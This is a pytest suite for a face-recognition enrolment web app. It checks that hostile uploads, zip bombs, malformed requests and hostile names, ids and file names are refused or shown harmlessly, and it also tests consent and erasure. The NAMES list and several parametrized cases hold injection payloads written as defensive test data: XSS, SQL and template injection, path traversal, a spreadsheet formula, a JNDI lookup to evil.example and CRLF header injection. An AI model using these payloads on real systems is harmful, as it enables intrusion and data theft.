"""Hostile uploads and hostile names do nothing; good ones are judged and enrolled."""

from __future__ import annotations

import html
import io
import re
import sqlite3
import tempfile
import threading
import unicodedata
import zipfile
from collections.abc import Iterator
from contextlib import closing, contextmanager
from pathlib import Path
from typing import IO, Any

import pytest
from tests.device.hostile import HOSTILE, Hostile, flat_png
from tests.web.desk.office import PNG, Office, Visitor, demo_picture, open_office

from glancein.domain.roster import BadRow
from glancein.enrolment import Enroller
from glancein.errors import GlanceinError, InputError, PhotoError, StoreError
from glancein.web import security
from glancein.web.access import Role
from glancein.web.desk.tables import as_xlsx
from glancein.web.desk_file import DeskFile
from glancein.web.uploads import Bulk, read_bulk, tidy_name, work_through
from glancein.wiring import DATABASE_FILE, DESK_FILE

# A browser sends files: no folder, pipe or device, no link that leads nowhere, nothing of gigabytes.
NEVER_SENT = {
    "sparse.jpg",
    "folder.jpg",
    "pipe.jpg",
    "zero-device.jpg",
    "memory.jpg",
    "loop.jpg",
    "missing-target.jpg",
    "missing.jpg",
}
SENT = [case for case in HOSTILE if case.name not in NEVER_SENT]
CONSENT = {"consent": "true"}
NAMES = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' OR 1=1 --",
    "Robert'); DROP TABLE people;--",
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "../../etc/passwd",
    "=cmd|' /C calc'!A0",
    "+1-555",
    "@SUM(1)",
    "javascript:alert(1)",
    "${jndi:ldap://evil.example}",
    "%00%0d%0aSet-Cookie: a=b",
    "</script><svg onload=alert(1)>",
    "\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe",
)


@pytest.fixture(scope="module")
def office_of_files(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Office]:
    """One desk for all uploads: the networks are opened once."""
    opened = open_office(tmp_path_factory.mktemp("desk"))
    yield opened
    opened.desk.close()


@pytest.fixture
def hr(office_of_files: Office) -> Visitor:
    """HR's browser."""
    return office_of_files.someone(Role.HR)


@pytest.fixture
def impatient(office_of_files: Office, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """A desk that waits for no other reader of its files."""
    monkeypatch.setattr("glancein.storage.database.erase_traces.__kwdefaults__", {"patience_s": 0.0})
    opened = [office_of_files.desk.people._file.database(), office_of_files.desk.file._database]
    for database in opened:
        database.execute("PRAGMA busy_timeout = 50")
    yield
    for database in opened:
        database.execute("PRAGMA busy_timeout = 5000")


def written(case: Hostile, folder: Path) -> bytes:
    """The bytes that a browser would send of a hostile file."""
    case.make(folder)
    return (folder / case.name).read_bytes()


def state(office: Office) -> tuple[int, int]:
    """What an upload might have changed: how many people, and the counter of changes."""
    return len(office.desk.people.people()), office.desk.people.version()


@pytest.mark.parametrize("case", SENT, ids=lambda case: repr(case.name))
def test_hostile_photo_is_refused_in_a_sentence(
    case: Hostile, hr: Visitor, office_of_files: Office, tmp_path: Path
) -> None:
    """Whatever comes as a photo: 422 with one line, nobody enrolled, the desk goes on."""
    data = written(case, tmp_path)
    before = state(office_of_files)
    files = {"photo": (case.name, data, "image/jpeg")}
    judged = hr.call("POST", "/api/v1/photos/check", {}, files=files)
    enrolled = hr.call("POST", "/api/v1/people", {"id": "E1", "name": "X", **CONSENT}, files=files)

    assert (judged.status_code, enrolled.status_code) == (422, 422)
    assert judged.json()["reason"] == case.reason
    assert judged.json()["error"].isprintable()
    assert state(office_of_files) == before


def test_enough_hostile_files_are_tried() -> None:
    """At least sixty kinds come as uploads: what is sent above, and the archives below."""
    assert len(SENT) + len(ARCHIVES) >= 60


def test_good_photo_is_judged_and_enrolled(hr: Visitor) -> None:
    """Crop, ease, every check; then the same face under another id is refused unless a reason is given."""
    files = {"photo": ("badge.jpg", demo_picture("collins.jpg"), "image/jpeg")}
    judged = hr.call("POST", "/api/v1/photos/check", {}, files=files).json()
    done = hr.call("POST", "/api/v1/people", {"id": "E5", "name": "Eileen", **CONSENT}, files=files)
    again = hr.call("POST", "/api/v1/photos/check", {}, files=files).json()
    twin = hr.call("POST", "/api/v1/people", {"id": "E6", "name": "Twin", **CONSENT}, files=files)
    allowed = {"id": "E6", "name": "Twin", "allow_duplicate": "twins", **CONSENT}
    second = hr.call("POST", "/api/v1/people", allowed, files=files)

    assert judged["usable"]
    assert judged["ease"] > 0.5
    assert {check["state"] for check in judged["checks"]} <= {"ok", "fair"}
    assert judged["crop"].startswith("data:image/png;base64,")
    assert done.status_code == 201
    assert again["refusal"]["reason"] == "duplicate_person"
    assert again["like"]["too_like"]
    assert "E5" in again["like"]["sentence"]
    assert (twin.status_code, twin.json()["reason"]) == (422, "duplicate_person")
    assert second.status_code == 201
    assert hr.client.get("/api/v1/people/E5/crop.png").content.startswith(b"\x89PNG")


def test_id_that_a_colleague_took_meanwhile_is_refused(
    hr: Visitor, office_of_files: Office, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Two at once with one id: the second is told so and does not replace the first's face and name."""
    enrolment = office_of_files.desk.enrolment
    our_turn = enrolment.enroller

    @contextmanager
    def after_a_colleague() -> Iterator[Enroller]:
        office_of_files.person("E60", "Grace")
        with our_turn() as enroller:
            yield enroller

    monkeypatch.setattr(enrolment, "enroller", after_a_colleague)
    files = {"photo": ("badge.jpg", demo_picture("biden.jpg"), "image/jpeg")}
    answer = hr.call("POST", "/api/v1/people", {"id": "E60", "name": "Joe", **CONSENT}, files=files)

    assert answer.status_code == 422
    assert office_of_files.desk.people.name_of("E60") == "Grace"


def test_enrolment_without_consent_is_refused(hr: Visitor, office_of_files: Office) -> None:
    """No tick, no template."""
    before = state(office_of_files)
    files = {"photo": ("badge.jpg", demo_picture("biden.jpg"), "image/jpeg")}
    answer = hr.call("POST", "/api/v1/people", {"id": "E7", "name": "Joe"}, files=files)
    changed = hr.call(
        "POST",
        "/api/v1/people",
        {"id": "E7", "name": "Joe", "consent_version": "old", **CONSENT},
        files=files,
    )

    assert (answer.status_code, changed.status_code) == (422, 422)
    assert "text has changed" in changed.json()["error"]
    assert state(office_of_files) == before


def test_erased_person_leaves_no_byte(hr: Visitor, office_of_files: Office) -> None:
    """Crop, consent and name are in no file of the data folder afterwards; the receipt counts them."""
    name = "Zebulon Quixote-Vandermeer"
    files = {"photo": ("badge.jpg", demo_picture("biden.jpg"), "image/jpeg")}
    hr.call(
        "POST",
        "/api/v1/people",
        {"id": "E8", "name": name, "allow_duplicate": "test", **CONSENT},
        files=files,
    )
    crop = hr.client.get("/api/v1/people/E8/crop.png").content
    receipt = hr.call("DELETE", "/api/v1/people/E8").json()
    left = b"".join(path.read_bytes() for path in office_of_files.desk.home.folder.glob("*.sqlite*"))

    assert receipt["erased"]["templates_and_crops"] == 1
    assert receipt["erased"]["consents"] == 1
    assert name.encode() not in left
    assert crop[100:400] not in left
    assert hr.client.get("/api/v1/people/E8").status_code == 422


def test_erasure_that_was_cut_short_can_be_done_again(
    hr: Visitor, office_of_files: Office, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A disk that fails in between leaves no consent of somebody who is not there to be erased."""
    office_of_files.person("E61", "Ada")
    hr.call("POST", "/api/v1/people/E61/consents", {"consent": True})
    desk = office_of_files.desk

    def fail(*_: object) -> None:
        raise StoreError("the disk is full; free some space")

    with monkeypatch.context() as failing:
        failing.setattr(desk.file, "change_all", fail)
        cut_short = hr.call("DELETE", "/api/v1/people/E61")
    again = hr.call("DELETE", "/api/v1/people/E61")

    assert (cut_short.status_code, again.status_code) == (503, 200)
    assert desk.file.rows("SELECT 1 FROM consents WHERE person_id = 'E61'") == []


def test_erasure_that_ends_between_the_files_can_be_done_again(
    hr: Visitor, office_of_files: Office, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With the consents gone, the person is still there to be erased."""
    office_of_files.person("E63", "Ada")
    hr.call("POST", "/api/v1/people/E63/consents", {"consent": True})
    desk = office_of_files.desk
    forget = desk.file.forget

    def end(person_id: str) -> None:
        forget(person_id)
        raise StoreError("the disk is full; free some space")

    with monkeypatch.context() as failing:
        failing.setattr(desk.file, "forget", end)
        cut_short = hr.call("DELETE", "/api/v1/people/E63")
    kept = desk.people.name_of("E63")
    again = hr.call("DELETE", "/api/v1/people/E63")

    assert (cut_short.status_code, kept, again.status_code) == (503, "Ada", 200)
    assert desk.people.name_of("E63") is None


@pytest.mark.usefixtures("impatient")
@pytest.mark.parametrize("read", [DATABASE_FILE, DESK_FILE])
def test_erasure_that_is_refused_leaves_everything(read: str, hr: Visitor, office_of_files: Office) -> None:
    """While a backup reads either file nothing goes, nor does the consent; later the receipt counts it."""
    office_of_files.person("E62", "Ada")
    hr.call("POST", "/api/v1/people/E62/consents", {"consent": True})
    desk = office_of_files.desk
    consents = "SELECT count(*) FROM consents WHERE person_id = 'E62'"

    with closing(sqlite3.connect(desk.home.folder / read, isolation_level=None)) as backup:
        backup.execute("BEGIN")
        backup.execute("SELECT count(*) FROM sqlite_master").fetchone()
        refused = hr.call("DELETE", "/api/v1/people/E62")
    kept = desk.people.name_of("E62"), desk.file.rows(consents)
    receipt = hr.call("DELETE", "/api/v1/people/E62").json()

    assert (refused.status_code, kept) == (503, ("Ada", [(1,)]))
    assert refused.json()["error"].startswith("nothing is erased yet: ")
    assert receipt["erased"]["consents"] == 1
    assert desk.file.rows(consents) == [(0,)]


def test_new_pin_keeps_the_number_on_the_page(office: Office) -> None:
    """It stands in the form; a number that somebody has is refused without a word of the command line."""
    office.person("E64", "Ada")
    office.person("K64", "Grace")
    hr = office.someone(Role.HR)
    first = hr.call("POST", "/api/v1/people/E64/pin", {"pin": "295174", "number": "77"})
    page = hr.client.get("/person?id=E64").text
    again = hr.call("POST", "/api/v1/people/E64/pin", {"pin": "804913"})
    held = hr.call("POST", "/api/v1/people/K64/pin", {"pin": "295174", "number": "77"})

    assert [answer.json() for answer in (first, again)] == [{"number": "77"}] * 2
    assert '<input name="number" value="77"' in page
    assert '<input name="number" value=""' in hr.client.get("/person?id=K64").text
    assert held.status_code == 422
    assert held.json()["error"] == "E64 has the number 77 already: give another number"


@pytest.mark.parametrize("name", NAMES)
def test_hostile_name_is_only_a_name(name: str, hr: Visitor, office_of_files: Office) -> None:
    """It is shown as text on every page, stored as it is, and changes nothing else."""
    office = office_of_files
    office.person("E99", name)
    pages = [
        hr.client.get(path).text for path in ("/", "/people", "/person?id=E99", "/month", "/month?id=E99")
    ]
    shown = hr.client.get("/api/v1/people/E99").json()["name"]
    tables = len(office.desk.file.rows("SELECT 1 FROM sqlite_master"))

    assert shown == name
    for page in pages:
        assert html.escape(name) in html.unescape(page).replace(name, html.escape(name))
        assert not re.search(r"<(script>alert|img src=x|svg onload)", page)
        assert "49" not in re.findall(r"<h1>([^<]*)", page)
    assert tables > 5


@pytest.mark.parametrize("person_id", ["../../x", "a/b", "x\x00", " x", "", "#1", "+1", "x" * 65, "\u2028"])
def test_hostile_id_is_refused(person_id: str, hr: Visitor, office_of_files: Office) -> None:
    """An id that would break a path, a topic or a line is never enrolled."""
    before = state(office_of_files)
    files = {"photo": ("a.jpg", demo_picture("obama.jpg"), "image/jpeg")}
    answer = hr.call("POST", "/api/v1/people", {"id": person_id, "name": "X", **CONSENT}, files=files)

    assert answer.status_code == 422
    assert state(office_of_files) == before


@pytest.mark.parametrize(
    "name", ["../../../etc/cron.d/x", "C:\\windows\\x.jpg", "a\r\nSet-Cookie: b=c", "\u202egpj"]
)
def test_hostile_file_name_is_never_opened(name: str, hr: Visitor) -> None:
    """A file's name is at most shown, without folders or control characters."""
    answer = hr.call("POST", "/api/v1/photos/check", {}, files={"photo": (name, b"no picture", "image/png")})

    assert answer.status_code == 422
    assert "set-cookie" not in answer.headers
    assert "/" not in tidy_name(name)
    assert tidy_name(name).isprintable()


def zipped(*members: tuple[str, bytes], compress: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive of these."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as made:
        for name, data in members:
            made.writestr(name, data)
    return out.getvalue()


HEAD = b"id,name,photo\n"
SOUND = zipped(("a.csv", HEAD + b"E1,A,a.jpg\n" * 50), ("a.jpg", PNG))
ARCHIVES: dict[str, bytes] = {
    "no csv": zipped(("a.jpg", b"x")),
    "two csv": zipped(("a.csv", HEAD), ("b.csv", HEAD)),
    "cut": zipped(("a.csv", HEAD + b"E1,A,a.jpg\n"))[:-30],
    "only magic": b"PK\3\4" + b"\0" * 40,
    "empty list": zipped(("a.csv", HEAD)),
    "no header": zipped(("a.csv", b"E1,A,a.jpg\n")),
    "csv is a bomb": zipped(("a.csv", HEAD + b"\n" * 40_000_000)),
    "csv is binary": zipped(("a.csv", bytes(range(256)) * 40)),
    "too many": zipped(*((f"{n}.jpg", b"") for n in range(10_001)), ("a.csv", HEAD)),
    "damaged table": SOUND[:60] + bytes(8) + SOUND[68:],
}


@pytest.mark.parametrize("case", ARCHIVES)
def test_hostile_archive_is_refused(case: str) -> None:
    """No table, damage, bombs: one sentence, before a photo is looked at."""
    with pytest.raises(GlanceinError):
        read(ARCHIVES[case])


def test_workbook_for_a_list_is_told_how_to_be_saved() -> None:
    """It is a zip too, as few who made one know."""
    with pytest.raises(InputError, match="CSV UTF-8"):
        read(as_xlsx([["id", "name", "photo"], ["E1", "Ada", "a.jpg"]]))


@pytest.mark.parametrize(
    "path", ["../a.jpg", "/etc/passwd", "..\\..\\a.jpg", "C:\\a.jpg", "none.jpg", "x/../../a.jpg"]
)
def test_list_cannot_name_a_file_outside_the_archive(path: str) -> None:
    """A row whose photo was not uploaded is a bad row; nothing on the disk is ever read for it."""
    bulk = read(zipped(("a.csv", HEAD + f"E1,A,{path}\n".encode()), ("a.jpg", PNG)))

    assert [type(row).__name__ for row in bulk.rows] == ["BadRow"]


def test_member_that_unpacks_to_much_more_is_refused() -> None:
    """A photo hardly shrinks: what grows 200-fold is a bomb, whatever it is called."""
    bulk = read(zipped(("a.csv", HEAD + b"E1,A,a.png\n"), ("a.png", b"\0" * 60_000_000)))

    with pytest.raises(PhotoError, match="unpacks"):
        bulk.photos["a.png"]()


def test_bomb_within_an_archive_stops_at_its_header(office_of_files: Office) -> None:
    """A picture of 400 megapixels inside a zip is refused like any other, and the rest goes on."""
    hr = office_of_files.someone(Role.HR)
    table = HEAD + b"E70,Bomb,bomb.png\nE71,=1+1,x.png\nE72,Good,sub/good.jpg\n"
    photos = (
        ("bomb.png", flat_png(20_000, 20_000)),
        ("x.png", PNG),
        ("sub/good.jpg", demo_picture("obama3.jpg")),
    )
    answer = hr.call(
        "POST",
        "/api/v1/people/bulk",
        CONSENT,
        files={"list": ("staff.zip", zipped(("l.csv", table), *photos))},
    )
    job = finished(hr, answer.json()["job"])

    assert answer.status_code == 202
    assert {row["id"]: row["status"] for row in job["rows"]} == {
        "E70": "refused",
        "E71": "refused",
        "E72": "enrolled",
    }
    assert job["error"] == ""


def test_csv_with_photos_beside_it_is_enrolled(office_of_files: Office) -> None:
    """Without a zip: the table and the pictures chosen together."""
    hr = office_of_files.someone(Role.HR)
    files = [
        ("list", ("staff.csv", HEAD + b"E80,Obama,two.jpg\n", "text/csv")),
        ("photos", ("two.jpg", demo_picture("obama2.jpg"), "image/jpeg")),
    ]
    answer = hr.call("POST", "/api/v1/people/bulk", CONSENT, files=files)
    job = finished(hr, answer.json()["job"])

    assert job["total"] == 1
    assert job["rows"][0]["reason"] in {"", "duplicate_person"}


class UnmarkedName(zipfile.ZipInfo):
    """A member whose name stands in an encoding that the archive does not name."""

    def __init__(self, name: str, encoding: str) -> None:
        super().__init__(name)
        self._raw = name.encode(encoding)

    def _encodeFilenameFlags(self) -> tuple[bytes, int]:  # noqa: N802  # zipfile's own
        return self._raw, 0


APART = unicodedata.normalize("NFD", "사진/김철수.jpg")


@pytest.mark.parametrize(
    "members",
    [
        ("사진/김철수.jpg", "사진/list.csv"),
        (APART, unicodedata.normalize("NFD", "사진/list.csv")),
        (UnmarkedName("사진/김철수.jpg", "cp949"), UnmarkedName("사진/list.csv", "cp949")),
        (UnmarkedName(APART, "utf-8"), UnmarkedName("사진/list.csv", "utf-8")),
    ],
    ids=["marked", "accents apart", "Windows in Korean", "macOS"],
)
def test_photo_is_found_however_the_archive_writes_its_name(
    members: tuple[str | zipfile.ZipInfo, str | zipfile.ZipInfo],
) -> None:
    """Windows writes names in its own encoding, macOS takes syllables apart; it is the same photo."""
    photo, table = members
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr(photo, PNG)
        made.writestr(table, HEAD + "E1,김철수,김철수.jpg\n".encode())
    bulk = read(out.getvalue())

    assert [type(row).__name__ for row in bulk.rows] == ["RosterRow"]
    assert bulk.photos["김철수.jpg"]() == PNG


def test_photo_chosen_on_a_mac_is_found_beside_the_list() -> None:
    """Its name comes with accents apart from their letters."""
    chosen = {unicodedata.normalize("NFD", "Jörg.jpg"): io.BytesIO(PNG)}
    table = io.BytesIO(HEAD + "E1,Jörg,Jörg.jpg\n".encode())
    bulk = read_bulk(table, "staff.csv", chosen, close=lambda: None)

    assert [type(row).__name__ for row in bulk.rows] == ["RosterRow"]
    assert bulk.photos["Jörg.jpg"]() == PNG


@pytest.mark.parametrize("path", ["/api/v1/photos/check", "/api/v1/people"])
def test_large_photo_stays_off_the_disk(path: str, hr: Visitor, monkeypatch: pytest.MonkeyPatch) -> None:
    """A phone's photo is larger than what Starlette keeps in memory by itself."""
    laid_down: list[object] = []
    monkeypatch.setattr(tempfile.SpooledTemporaryFile, "rollover", laid_down.append)
    photo = demo_picture("biden.jpg") + bytes(3_000_000)
    hr.call("POST", path, {"id": "E62", "name": "Joe"}, files={"photo": ("a.jpg", photo, "image/jpeg")})

    assert laid_down == []


def test_upload_that_is_said_too_large_is_refused_at_once(hr: Visitor) -> None:
    """By the header, before a byte is kept."""
    answer = hr.client.post(
        "/api/v1/photos/check",
        content=b"x",
        headers={
            "x-csrf-token": hr.csrf,
            "content-type": "multipart/form-data; boundary=b",
            "content-length": "9000000000",
        },
    )

    assert answer.status_code == 422


@pytest.mark.parametrize("unsaid", ["", "content-length"])
def test_photo_upload_ends_where_a_photo_is_too_large(
    unsaid: str, hr: Visitor, monkeypatch: pytest.MonkeyPatch
) -> None:
    """By the header, or while it comes: what a list may weigh is not kept in memory for one photo."""
    monkeypatch.setattr(security, "LARGEST_PHOTO_FORM", 2_000_000)
    photo = demo_picture("biden.jpg") + bytes(2_000_000)
    request = hr.client.build_request(
        "POST",
        "/api/v1/photos/check",
        files={"photo": ("a.jpg", photo, "image/jpeg")},
        headers={"x-csrf-token": hr.csrf},
    )
    request.headers.pop(unsaid, None)
    answer = hr.client.send(request)

    assert (answer.status_code, answer.json()["reason"]) == (422, "too_large")


def test_photos_beside_a_list_may_weigh_more_than_one(hr: Visitor, monkeypatch: pytest.MonkeyPatch) -> None:
    """A list is laid down on the disk; what one photo may weigh does not bound it."""
    monkeypatch.setattr(security, "LARGEST_PHOTO_FORM", 1_000_000)
    files = {"list": ("list.csv", b"id;name" + bytes(2_000_000), "text/csv")}
    answer = hr.call("POST", "/api/v1/people/bulk", CONSENT, files=files)

    assert answer.status_code == 422
    assert "MB" not in answer.json()["error"]


@pytest.mark.parametrize(
    ("kind", "body"),
    [
        ("application/json", b"{"),
        ("application/json", b"[1]"),
        ("application/json", b"[" * 60_000),
        ("application/json", b'{"name": {"a": 1}}'),
        ("application/json", b'{"name": "\\u0000"}'),
        ("application/json", b'{"name": "\\ud800"}'),
        ("application/json", b"\xff\xfe"),
        ("application/json", b'{"a": "' + b"x" * 70_000 + b'"}'),
        ("text/plain", b"name=x"),
    ],
    ids=lambda value: repr(value[:16]),
)
def test_broken_body_is_refused(kind: str, body: bytes, office_of_files: Office) -> None:
    """Not JSON, too deep, too long, no text: one sentence."""
    admin = office_of_files.someone(Role.ADMIN)
    answer = admin.client.post(
        "/api/v1/accounts", content=body, headers={"x-csrf-token": admin.csrf, "content-type": kind}
    )

    assert answer.status_code == 422
    assert "error" in answer.json()


@pytest.mark.parametrize(
    "kind", ["multipart/form-data", "multipart/form-data; boundary=", "application/json", ""]
)
def test_broken_form_is_refused(kind: str, hr: Visitor) -> None:
    """A body that is no form, or a form without an end."""
    headers = {"x-csrf-token": hr.csrf, "content-type": kind}
    answer = hr.client.post("/api/v1/photos/check", content=b"--b\r\nnothing", headers=headers)

    assert answer.status_code == 422


def read(data: bytes) -> Bulk:
    """The archive as the desk reads it."""
    return read_bulk(io.BytesIO(data), "staff.zip", {}, close=lambda: None)


def finished(hr: Visitor, number: str) -> dict[str, Any]:  # Any: the values of a JSON object
    """The job, once it is done."""
    pause = threading.Event()
    while not (job := hr.client.get(f"/api/v1/jobs/{number}").json())["is_done"]:
        pause.wait(0.05)
    found: dict[str, Any] = job
    return found


def test_csv_alone_must_be_a_table() -> None:
    """Something else than a table is refused by its header line."""
    with pytest.raises(InputError):
        read_bulk(io.BytesIO(b"hello\n"), "x.csv", {}, close=lambda: None)


def beside(table: str, *photos: str) -> list[str]:
    """The photo of each row of a CSV that was uploaded with these photos, or why there is none."""
    chosen = {name: io.BytesIO(PNG) for name in photos}
    bulk = read_bulk(io.BytesIO(HEAD + table.encode()), "staff.csv", chosen, close=lambda: None)
    return [row.message if isinstance(row, BadRow) else str(row.photo) for row in bulk.rows]


@pytest.mark.parametrize("named", ["photos/x.jpg", "photos\\x.jpg", "./x.jpg", "x.jpg"])
def test_photo_is_found_without_the_folder_that_a_browser_leaves_out(named: str) -> None:
    """The list that ``glancein enroll --csv`` takes is taken at the desk too."""
    assert beside(f"E1,A,{named}\n", "x.jpg") == ["x.jpg"]


def test_photo_of_one_folder_is_never_taken_for_that_of_another() -> None:
    """Two people's photos of one name: without their folders nobody can say whose was uploaded."""
    refused = beside("E1,A,north/x.jpg\nE2,B,south/x.jpg\nE3,C,y.jpg\n", "x.jpg", "y.jpg")
    exact = beside("E1,A,x.jpg\nE2,B,south/x.jpg\n", "x.jpg")

    assert ["several folders" in said for said in refused] == [True, True, False]
    assert exact[0] == "x.jpg"
    assert "several folders" in exact[1]


def consents_of(office: Office, person_id: str) -> int:
    """How many are recorded."""
    return len(office.desk.file.rows("SELECT 1 FROM consents WHERE person_id = :id", id=person_id))


@pytest.mark.parametrize(("fails", "code"), [("add", 503), ("change_all", 201)])
def test_nobody_is_enrolled_without_consent_when_the_disk_fails(
    fails: str, code: int, office: Office, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whichever write to the desk's file fails, whoever is enrolled has a consent."""
    hr = office.someone(Role.HR)

    def fail(*_: object, **__: object) -> None:
        raise StoreError("the disk is full; free some space")

    files = {"photo": ("a.jpg", demo_picture("collins.jpg"), "image/jpeg")}
    with monkeypatch.context() as failing:
        failing.setattr(DeskFile, fails, fail)
        answer = hr.call("POST", "/api/v1/people", {"id": "E30", "name": "X", **CONSENT}, files=files)

    assert answer.status_code == code
    assert consents_of(office, "E30") == len(office.desk.people.people())


def test_refused_photo_leaves_no_consent(hr: Visitor, office_of_files: Office) -> None:
    """Nothing is kept of somebody who was not enrolled."""
    files = {"photo": ("a.jpg", b"no picture", "image/jpeg")}
    answer = hr.call("POST", "/api/v1/people", {"id": "E31", "name": "X", **CONSENT}, files=files)

    assert answer.status_code == 422
    assert consents_of(office_of_files, "E31") == 0


def test_list_records_the_consent_of_who_is_enrolled_already(office: Office) -> None:
    """All have signed: one consent each, also for an unchanged row, and no second one the next time."""
    hr = office.someone(Role.HR)
    table = HEAD + b"E40,Eileen,c.jpg\nE41,Nobody,x.jpg\n"
    listed = zipped(("l.csv", table), ("c.jpg", demo_picture("collins.jpg")), ("x.jpg", b"no picture"))

    def upload() -> list[str]:
        files = {"list": ("staff.zip", listed)}
        number = hr.call("POST", "/api/v1/people/bulk", CONSENT, files=files).json()["job"]
        return [row["status"] for row in finished(hr, number)["rows"]]

    first = upload()
    office.desk.file.change("DELETE FROM consents")
    again, once_more = upload(), upload()

    assert first == ["enrolled", "refused"]
    assert again == once_more == ["unchanged", "refused"]
    assert (consents_of(office, "E40"), consents_of(office, "E41")) == (1, 0)


def test_list_knows_whom_others_enrol_meanwhile(office: Office) -> None:
    """A face that came singly is not taken again, an id not replaced, and the list goes on."""
    table = "id,name,photo\nL1,Eileen,c.jpg\nL2,Barack,o.jpg\nL3,Joe,b.jpg\nL4,Joe,b.jpg\n"
    photos = {"c.jpg": "collins.jpg", "o.jpg": "obama.jpg", "b.jpg": "biden.jpg"}
    files: dict[str, IO[bytes]] = {name: io.BytesIO(demo_picture(file)) for name, file in photos.items()}
    bulk = read_bulk(io.BytesIO(table.encode()), "l.csv", files, close=lambda: None)
    rows = work_through(office.desk.home, bulk, one=lambda _, enrol: enrol())
    statuses = [next(rows).status]

    single = {"photo": ("o.jpg", demo_picture("obama2.jpg"), "image/jpeg")}
    fields = {"id": "S1", "name": "Barack Obama", **CONSENT}
    alone = office.someone(Role.HR).call("POST", "/api/v1/people", fields, files=single)
    office.person("L3", "Grace")
    face, number, last = rows

    assert (statuses, alone.status_code) == (["enrolled"], 201)
    assert (face.status, face.reason) == ("refused", "duplicate_person")
    assert (number.status, number.message.partition(":")[0]) == ("refused", "L3 is enrolled already")
    assert last.status == "enrolled"
    people = {person.person_id: person.name for person in office.desk.people.people()}
    assert people == {"L1": "Eileen", "L3": "Grace", "L4": "Joe", "S1": "Barack Obama"}


def test_list_that_cannot_be_noted_is_not_begun(office: Office, monkeypatch: pytest.MonkeyPatch) -> None:
    """A job that went on would read from uploads that are closed with the refusal."""
    hr = office.someone(Role.HR)
    listed = zipped(("l.csv", HEAD + b"E50,Eileen,c.jpg\n"), ("c.jpg", demo_picture("collins.jpg")))

    def fail(*_: object, **__: object) -> None:
        raise StoreError("the disk is full; free some space")

    begun: list[object] = []
    monkeypatch.setattr(type(office.desk.jobs), "start", lambda *given, **_: begun.append(given))
    monkeypatch.setattr(type(office.desk.audit), "note", fail)
    answer = hr.call("POST", "/api/v1/people/bulk", CONSENT, files={"list": ("staff.zip", listed)})

    assert answer.status_code == 503
    assert begun == []
